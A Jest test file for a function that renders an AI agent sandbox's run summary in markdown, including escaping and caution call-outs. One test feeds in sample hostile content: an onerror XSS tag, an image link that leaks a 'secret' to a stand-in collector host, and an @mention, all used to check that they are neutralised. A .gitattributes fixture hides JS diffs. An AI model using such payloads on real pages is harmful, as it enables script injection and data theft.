import { describe, it, expect } from '@jest/globals'
import type { AgentOutcome } from '../../src/agent/result.js'
import { renderSummary, type SummaryData } from '../../src/report/summary.js'
import { digestPatchText } from '../../src/git/patch-digest.js'
import { formatLeftOut } from '../../src/git/patch-preamble.js'

function outcome(extra: Partial<AgentOutcome> = {}): AgentOutcome {
  return {
    conclusion: 'success',
    message: 'The agent finished',
    finalMessage: '',
    sessionId: 'sess-1',
    numTurns: 9,
    durationMs: 65_432,
    costUsd: 0.12345,
    inputTokens: 1500,
    outputTokens: 320,
    ...extra
  }
}

function data(extra: Partial<SummaryData> = {}): SummaryData {
  return { outcome: outcome(), files: [], insertions: 0, deletions: 0, ...extra }
}

function linesOf(markdown: string): string[] {
  return markdown.split('\n')
}

describe('renderSummary', () => {
  it('heads with the conclusion and its message', () => {
    const lines = linesOf(renderSummary(data()))
    expect(lines.slice(0, 3)).toEqual(['## ✅ Claude Sandbox: success', '', 'The agent finished'])
    const timeout = renderSummary(
      data({ outcome: outcome({ conclusion: 'timeout', message: 'Too slow' }) })
    )
    expect(linesOf(timeout)[0]).toBe('## ⏱️ Claude Sandbox: timeout')
  })

  it('shows turns, duration, cost, tokens and the session as table rows', () => {
    const lines = linesOf(renderSummary(data()))
    expect(lines).toEqual(
      expect.arrayContaining([
        '| Turns | 9 |',
        '| Duration | 65.4 s |',
        '| Cost | $0.1235 |',
        '| Tokens | 1500 in, 320 out |',
        '| Files changed | 0 (+0 −0) |',
        '| Session | `sess-1` |'
      ])
    )
  })

  it('leaves out the figures a run without a result does not have', () => {
    const bare = renderSummary(
      data({
        outcome: {
          conclusion: 'failure',
          message: 'Claude Code exited with code 1 without a result',
          finalMessage: ''
        }
      })
    )
    expect(bare).not.toMatch(/\| (Turns|Duration|Cost|Tokens|Session) \|/)
    expect(bare).not.toContain('### Final message')
    expect(bare).toContain('| Files changed | 0 (+0 −0) |')
  })

  it('lists changed files in a table', () => {
    const markdown = renderSummary(
      data({
        files: [
          { path: 'src/a.ts', insertions: 3, deletions: 1, status: 'modified', binary: false },
          { path: 'img/logo.png', insertions: 0, deletions: 0, status: 'added', binary: true },
          { path: 'odd|name.txt', insertions: 1, deletions: 0, status: 'added', binary: false }
        ],
        insertions: 4,
        deletions: 1
      })
    )
    const lines = linesOf(markdown)
    expect(lines).toContain('| Files changed | 3 (+4 −1) |')
    const header = lines.indexOf('| File | Change | + | − |')
    expect(header).toBeGreaterThan(-1)
    expect(lines.slice(header + 2, header + 5)).toEqual([
      '| src/a.ts | modified | 3 | 1 |',
      '| img/logo.png | added (binary) | 0 | 0 |',
      // Agent-chosen names are shown as text: nothing in them can end the cell or add markup.
      '| odd&#124;name.txt | added | 1 | 0 |'
    ])
  })

  it('quotes the final message with HTML, images and @mentions made inert', () => {
    const markdown = renderSummary(
      data({
        outcome: outcome({
          finalMessage:
            'Fixed it, @octocat.\n<img src=x onerror=alert(1)>\n![x](https://collector.invalid/?q=secret)'
        })
      })
    )
    const lines = linesOf(markdown)
    const heading = lines.indexOf('### Final message')
    expect(lines.slice(heading + 2, heading + 5)).toEqual([
      '> Fixed it, @\u200boctocat.',
      '> <\u200bimg src=x onerror=alert(1)>',
      // An image would be fetched when the summary is viewed; a link needs a click.
      '> !\u200b[x](https://collector.invalid/?q=secret)'
    ])
    expect(markdown).not.toContain('![')
    expect(markdown).not.toContain('@octocat')
    expect(markdown).not.toContain('<img')
  })

  it('includes the denied hosts section and the published line', () => {
    const denied = '### Network: denied hosts\n\n| Host | Denied connections | Reason |'
    const markdown = renderSummary(
      data({
        deniedHostsMarkdown: denied,
        published: 'Pull request https://github.example/o/r/pull/7'
      })
    )
    expect(markdown).toContain(`\n${denied}\n`)
    expect(linesOf(markdown)).toContain(
      '| Published | Pull request https://github.example/o/r/pull/7 |'
    )
    expect(renderSummary(data())).not.toMatch(/Published|denied hosts/)
  })

  it('names the patch and the transcript files', () => {
    const markdown = renderSummary(
      data({ patchPath: '/tmp/run/claude.patch', executionFile: '/tmp/run/transcript.jsonl' })
    )
    expect(markdown).toContain('- Patch: `/tmp/run/claude.patch` (apply with `git apply --binary`)')
    expect(markdown).toContain('- Transcript: `/tmp/run/transcript.jsonl`')
  })

  it('links the artifact and the run instead of naming runner paths', () => {
    const markdown = renderSummary(
      data({
        patchPath: '/home/runner/work/_temp/claude-sandbox/r1/claude.patch',
        executionFile: '/home/runner/work/_temp/claude-sandbox/r1/claude-execution.jsonl',
        artifact: {
          name: 'claude-sandbox-agent-1',
          url: 'https://github.com/o/r/actions/runs/7/artifacts/9'
        },
        runUrl: 'https://github.com/o/r/actions/runs/7'
      })
    )
    expect(markdown).toContain(
      '- [Artifact <code>claude&#45;sandbox&#45;agent&#45;1</code>](https://github.com/o/r/actions/runs/7/artifacts/9)'
    )
    expect(markdown).toContain('- Log: [the workflow run](https://github.com/o/r/actions/runs/7)')
    expect(markdown).not.toContain('/home/runner')
  })

  it('says where the files are when the artifact could not be uploaded', () => {
    const markdown = renderSummary(
      data({
        patchPath: '/tmp/run/claude.patch',
        executionFile: '/tmp/run/claude-execution.jsonl',
        gatewayLog: '/tmp/run/gateway.log',
        artifactMissing: 'Unable to make request: ECONNREFUSED'
      })
    )
    expect(markdown).toContain(
      'Not uploaded as an artifact (Unable to make request: ECONNREFUSED); the files are on the runner'
    )
    expect(markdown).toContain('- Patch: `/tmp/run/claude.patch` (apply with `git apply --binary`)')
    expect(markdown).toContain('- Gateway log: `/tmp/run/gateway.log`')
  })
})

describe('renderSummary call-outs from the patch', () => {
  const attributesPatch = [
    'diff --git a/.gitattributes b/.gitattributes',
    'new file mode 100644',
    'index 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111',
    '--- /dev/null',
    '+++ b/.gitattributes',
    '@@ -0,0 +1 @@',
    '+*.js -diff',
    ''
  ].join('\n')

  it('calls out a .gitattributes change at the top, with its lines', () => {
    const markdown = renderSummary(data({ patchDigest: digestPatchText(attributesPatch) }))
    const caution = markdown.indexOf('> [!CAUTION]')
    expect(caution).toBeGreaterThan(0)
    expect(caution).toBeLessThan(markdown.indexOf('| Turns |'))
    expect(markdown).toContain('**This change edits <code>.gitattributes</code>.**')
    expect(markdown).toContain('+*.js -diff')
    expect(renderSummary(data({ patchDigest: digestPatchText('') }))).not.toContain('CAUTION')
  })

  it('lists the files left out for their size, with sizes and how to get them', () => {
    const patch = `${formatLeftOut([{ path: 'build/out.bin', size: 1_258_291_200 }], 50 * 1024 * 1024)}${attributesPatch}`
    const markdown = renderSummary(data({ patchDigest: digestPatchText(patch) }))
    expect(markdown).toContain('**1 file left out of the patch**')
    expect(markdown).toContain('- <code>build/out.bin</code> (1.2 GiB (1,258,291,200 bytes))')
    expect(markdown).toContain('commit it yourself, or raise `max-file-size`')
  })
})
